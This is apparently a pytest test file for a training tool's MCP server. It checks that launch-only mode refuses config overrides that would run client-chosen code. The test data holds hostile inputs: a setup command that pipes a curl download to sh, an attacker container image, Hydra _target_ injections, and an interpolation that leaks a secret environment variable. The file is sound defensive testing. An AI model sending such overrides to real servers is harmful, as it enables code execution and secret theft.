"""Attacks on an MCP server started with --allow-launch: launching runs does not grant running code.

Keys that make a launched run (or this server) execute code the client chose are refused unless the
server was also started with --allow-code-execution: ``_target_`` in a key or a value (Hydra instantiates
it, loopwright imports it), ``model.trust_remote_code``, a dict or list under ``hydra.sweeper.*`` (Hydra
builds the sweeper recursively: a nested ``{_target_: my_module.fn}`` is imported and called; Hydra 1.3.8
blocklists ``os.system`` and its kin itself) and the provider's commands, image and environment. An
attack that got through on 6a33f62 started a real process, which the test kills by its process group
(launch starts each run in a session of its own).
"""

from __future__ import annotations

import asyncio
import os
import signal
import time

import pytest

from helpers import ROOT
from helpers.mcp_client import call, session

TINY = ["model=tiny", "profile=smoke"]
MARKER_MODULE = """import os, pathlib
pathlib.Path(os.environ["LW_MARKERS"], __name__ + "." + str(os.getpid())).touch()
def grade(prompts=None, completions=None, **kw):
    return [1.0] * len(completions or [])
"""


def _kill_launched(reply, wait_for=None, timeout: float = 60) -> None:
    """An attack the server let through started a process: wait for its marker (if any), then kill it."""
    if reply.is_error or not (reply.data or {}).get("pid"):
        return
    deadline = time.monotonic() + timeout
    while wait_for is not None and not wait_for() and time.monotonic() < deadline:
        time.sleep(0.5)
    try:
        os.killpg(reply.data["pid"], signal.SIGKILL)
    except ProcessLookupError:
        pass


@pytest.fixture(scope="module")
def dirs(tmp_path_factory):
    base = tmp_path_factory.mktemp("launch")
    mods, marks = base / "mods", base / "markers"
    mods.mkdir()
    marks.mkdir()
    for name in ("lw_evil_launch", "lw_evil_cx", "lw_evil_sweeper"):
        (mods / f"{name}.py").write_text(MARKER_MODULE)
    env = {"LW_MARKERS": str(marks), "PYTHONPATH": f"{ROOT / 'src'}:{mods}", "SOME_SECRET": "s3cret-value-12345678"}
    return {"base": base, "mods": mods, "markers": marks, "env": env}


def _play(outputs, flags, env, requests):
    async def go() -> dict:
        async with session(outputs, *flags, env=env) as client:
            return {name: await call(client, tool, **args) for name, (tool, args) in requests.items()}

    return asyncio.run(go())


@pytest.fixture(scope="module")
def launch_only(dirs):
    outputs = dirs["base"] / "outputs"
    def sweeper_ran() -> bool:
        return any(p.name.startswith("lw_evil_sweeper.") for p in dirs["markers"].iterdir())

    replies = _play(outputs, ("--allow-launch",), dirs["env"], {
        "sweeper": ("launch", {"sweep": True, "overrides": [
            *TINY, "sweep=grpo_lr_kl", "++hydra.sweeper.sampler_kwargs={_target_:lw_evil_sweeper.grade}"]}),
        "sweeper_list": ("launch", {"sweep": True, "overrides": [*TINY, "sweep=grpo_lr_kl",
                                                                "hydra.sweeper.plots=[history]"]}),
        "trust": ("launch", {"overrides": [*TINY, "model.trust_remote_code=true"]}),
        "target": ("launch", {"overrides": [*TINY, "reward._target_=lw_evil_launch.grade"]}),
        "target_value": ("launch", {"overrides": [*TINY, "+extra={_target_:os.getcwd}"]}),
        "interpolation": ("launch", {"overrides": [*TINY, "run_name=${oc.env:SOME_SECRET}"]}),
        "setup_cmd": ("compose_config", {"overrides": ["provider=runpod", "provider.setup_cmd=curl -s x | sh"]}),
        "image": ("compose_config", {"overrides": ["provider=runpod", "provider.image=attacker/image"]}),
    })
    _kill_launched(replies["sweeper"], wait_for=sweeper_ran)
    for name in ("sweeper_list", "trust", "target", "target_value", "interpolation"):
        _kill_launched(replies[name])
    return {"replies": replies, "sweeper_ran": sweeper_ran(), "outputs": outputs}


def _refused(reply, *words: str) -> bool:
    return reply.is_error and "refused: " in reply.error and all(w in reply.error for w in words)


def test_a_target_nested_in_a_sweeper_value_is_refused_and_runs_no_command(launch_only):
    reply = launch_only["replies"]["sweeper"]
    # Hydra 1.3.8 blocklists os.system and its kin as targets; any other module is imported (a marker module)
    assert not launch_only["sweeper_ran"], "the launched sweep imported the module named in the sweeper's config"
    assert _refused(reply, "hydra.sweeper.sampler_kwargs", "--allow-code-execution"), reply
    assert _refused(launch_only["replies"]["sweeper_list"], "hydra.sweeper.plots", "not a scalar")


def test_trust_remote_code_is_refused(launch_only):
    assert _refused(launch_only["replies"]["trust"], "model.trust_remote_code", "--allow-code-execution")


def test_a_target_key_or_value_is_refused_and_nothing_imports_it(dirs, launch_only):
    replies = launch_only["replies"]
    assert sorted(p.name for p in dirs["markers"].iterdir() if p.name.startswith("lw_evil_launch")) == []
    assert _refused(replies["target"], "reward._target_", "--allow-code-execution"), replies["target"]
    assert _refused(replies["target_value"], "extra", "_target_"), replies["target_value"]


def test_an_interpolation_is_refused_with_launch_enabled_too(launch_only):
    assert _refused(launch_only["replies"]["interpolation"], "run_name", "${")


def test_the_providers_command_and_image_are_refused(launch_only):
    assert _refused(launch_only["replies"]["setup_cmd"], "provider.setup_cmd", "--allow-code-execution")
    assert _refused(launch_only["replies"]["image"], "provider.image", "--allow-code-execution")


def test_no_refused_launch_left_a_run_dir(launch_only):
    outputs = launch_only["outputs"]
    assert not (outputs / "runs").exists() and not (outputs / "multirun").exists()


def test_allow_code_execution_grants_those_keys_but_the_server_still_imports_nothing(dirs):
    outputs = dirs["base"] / "outputs_cx"
    replies = _play(outputs, ("--allow-launch", "--allow-code-execution"), dirs["env"], {
        "target": ("compose_config", {"overrides": [*TINY, "reward._target_=lw_evil_cx.grade"]}),
        # granted, so it gets as far as validation, which stops it: nothing starts
        "trust": ("launch", {"overrides": ["model=tiny", "model.trust_remote_code=true", "profile.num_generations=1"]}),
    })
    _kill_launched(replies["trust"])
    assert not replies["target"].is_error and replies["target"].data["config"]["reward"]["_target_"] == \
        "lw_evil_cx.grade"
    assert sorted(p.name for p in dirs["markers"].iterdir() if p.name.startswith("lw_evil_cx")) == []
    assert _refused(replies["trust"], "does not validate", "profile.num_generations=1"), replies["trust"]


def test_allow_code_execution_needs_allow_launch():
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, "-m", "loopwright.mcp", "--allow-code-execution"], cwd=ROOT,
                          capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
                          env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert proc.returncode == 2 and "--allow-code-execution needs --allow-launch" in proc.stderr
